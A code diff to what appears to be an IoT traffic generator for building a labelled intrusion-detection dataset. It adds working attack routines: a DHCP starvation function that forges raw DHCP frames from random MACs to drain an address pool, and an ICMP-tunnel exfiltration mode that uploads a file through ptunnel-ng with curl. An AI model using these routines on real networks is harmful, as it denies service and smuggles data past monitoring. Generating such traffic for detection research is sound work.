@@ -26,6 +26,7 @@ import ftplib
 import json
 import os
 import random
+import shlex
 import socket
 import struct
 import subprocess
@@ -463,6 +464,12 @@ def drive(args) -> int:
     actions += [("http", 4.0)] * bool(args.http) + [("coap", 3.0)] * bool(args.coap)
     actions += [("dns", 6.0)] * bool(args.dns) + [("ftp", 15.0)] * bool(args.ftp) + [("ping", 10.0)] * bool(args.ping)
     actions += [("telnet", 20.0)] * bool(args.telnet)
+    runs = {}
+    for i, spec in enumerate(args.run):  # "PERIOD|argv" -- a real client run at random intervals
+        period, _, cmd = spec.partition("|")
+        runs[f"run{i}"] = shlex.split(cmd)
+        actions.append((f"run{i}", float(period)))
+    args.runs = runs
     nxt = {k: time.time() + rng.uniform(0, p) for k, p in actions}
     done = 0
     try:
@@ -489,7 +496,9 @@ def drive(args) -> int:
 
 
 def _act(kind: str, args, rng: random.Random, pub) -> None:
-    if kind == "mqtt":
+    if kind.startswith("run"):
+        subprocess.run(args.runs[kind], capture_output=True, timeout=args.run_timeout)
+    elif kind == "mqtt":
         reading = {"dev": args.name, "ts": round(time.time(), 1), "v": round(rng.gauss(21, 2), 2)}
         pub.stdin.write((json.dumps(reading) + "\n").encode())
         pub.stdin.flush()
@@ -577,6 +586,85 @@ def iodine_exfil(args) -> int:
     return 0
 
 
+STARVE_OUI = "02:de:ad"   # MAC prefix of the starvation helper's forged clients (labelling rule mac_prefix)
+
+
+def _csum(b: bytes) -> int:
+    if len(b) % 2:
+        b += b"\0"
+    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
+    s = (s >> 16) + (s & 0xFFFF)
+    s += s >> 16
+    return ~s & 0xFFFF
+
+
+def dhcp_frame(mac: bytes, xid: int, msgtype: int, requested: bytes = b"", server: bytes = b"") -> bytes:
+    """Ethernet/IPv4/UDP/BOOTP from a DHCP client without an address (0.0.0.0 -> broadcast)."""
+    opts = bytes([53, 1, msgtype]) + bytes([61, 7, 1]) + mac + bytes([12, 8]) + b"iot-" + mac[-2:].hex().encode()
+    if requested:
+        opts += bytes([50, 4]) + requested
+    if server:
+        opts += bytes([54, 4]) + server
+    opts += bytes([55, 4, 1, 3, 6, 15, 255])
+    bootp = (bytes([1, 1, 6, 0]) + xid.to_bytes(4, "big") + bytes(4) + bytes(16) + mac + bytes(10) + bytes(192)
+             + b"\x63\x82\x53\x63" + opts)
+    bootp += bytes(max(0, 300 - len(bootp)))
+    udp = struct.pack("!HHHH", 68, 67, 8 + len(bootp), 0) + bootp
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), xid & 0xFFFF, 0, 64, 17, 0, bytes(4), b"\xff" * 4)
+    ip = ip[:10] + _csum(ip).to_bytes(2, "big") + ip[12:]
+    return b"\xff" * 6 + mac + b"\x08\x00" + ip + udp
+
+
+def dhcp_starve(args) -> int:
+    """DHCP starvation, bounded: ``--count`` forged clients (random MACs under STARVE_OUI), each a
+    DISCOVER and, when the server offers an address, a REQUEST for it -- the pool runs dry."""
+    rng = random.Random(args.seed)
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
+    s.bind((args.iface, 0))
+    s.settimeout(0.05)
+    oui = bytes.fromhex(STARVE_OUI.replace(":", ""))
+    got = 0
+    deadline = time.time() + args.max_seconds
+    for _ in range(args.count):
+        if time.time() > deadline:
+            break
+        mac, xid = oui + rng.randbytes(3), rng.getrandbits(32)
+        s.send(dhcp_frame(mac, xid, 1))
+        end = time.time() + 0.1
+        while time.time() < end:
+            try:
+                raw = s.recv(2048)
+            except (socket.timeout, OSError):
+                break
+            if len(raw) < 282 or raw[23] != 17 or raw[36:38] != b"\x00\x44" or raw[46:50] != xid.to_bytes(4, "big"):
+                continue
+            yiaddr, server = raw[58:62], raw[26:30]
+            s.send(dhcp_frame(mac, xid, 3, requested=yiaddr, server=server))
+            got += 1
+            break
+        time.sleep(args.pause)
+    print(f"dhcp-starve: {args.count} clients, {got} offers answered with a request", flush=True)
+    return 0
+
+
+def ptunnel_exfil(args) -> int:
+    """An ICMP tunnel with ptunnel-ng: the client forwards a local port through echo requests to the
+    proxy, and ``curl`` uploads a file through it."""
+    tun = subprocess.Popen(["ptunnel-ng", f"-p{args.proxy}", f"-l{args.local_port}", f"-r{args.dest}",
+                            f"-R{args.dest_port}", "-v", "1"])
+    try:
+        time.sleep(1.0)
+        subprocess.run(["curl", "-s", "-o", "/dev/null", "-m", str(args.max_seconds), "--data-binary", f"@{args.file}",
+                        f"http://127.0.0.1:{args.local_port}/upload"], timeout=args.max_seconds + 5)
+    finally:
+        tun.terminate()
+        try:
+            tun.wait(timeout=3)
+        except subprocess.TimeoutExpired:
+            tun.kill()
+    return 0
+
+
 def pair(args) -> int:
     """A device-pairing burst, bounded by ``--rounds``: the new device announces itself (mDNS
     announcements, SSDP NOTIFY alive for each type), the phone's app discovers it (SSDP M-SEARCH,
@@ -660,6 +748,9 @@ def main(argv=None) -> int:
     d.add_argument("--ftp", help="host,user,password")
     d.add_argument("--ping", nargs="*", default=[])
     d.add_argument("--telnet", help="host,user,password")
+    d.add_argument("--run", action="append", default=[], metavar="PERIOD|ARGV",
+                   help="run this command (shlex-split, no shell) at random intervals of mean PERIOD seconds")
+    d.add_argument("--run-timeout", type=float, default=60.0)
     g = sub.add_parser("guess-mqtt")
     g.add_argument("--host", required=True)
     g.add_argument("--user", required=True)
@@ -689,7 +780,24 @@ def main(argv=None) -> int:
     pa.add_argument("--device", default="", help="app: the device's address")
     pa.add_argument("--rounds", type=int, default=3)
     pa.add_argument("--seed", type=int, default=0)
+    ds = sub.add_parser("dhcp-starve")
+    ds.add_argument("--iface", default="eth0")
+    ds.add_argument("--count", type=int, default=200)
+    ds.add_argument("--pause", type=float, default=0.01)
+    ds.add_argument("--max-seconds", type=float, default=60.0)
+    ds.add_argument("--seed", type=int, default=0)
+    pt = sub.add_parser("ptunnel-exfil")
+    pt.add_argument("--proxy", required=True)
+    pt.add_argument("--file", required=True)
+    pt.add_argument("--dest", required=True)
+    pt.add_argument("--dest-port", type=int, default=8080)
+    pt.add_argument("--local-port", type=int, default=8000)
+    pt.add_argument("--max-seconds", type=float, default=30.0)
     args = p.parse_args(argv)
+    if args.cmd == "dhcp-starve":
+        return dhcp_starve(args)
+    if args.cmd == "ptunnel-exfil":
+        return ptunnel_exfil(args)
     if args.cmd == "pair":
         return pair(args)
     if args.cmd == "guess-mqtt":
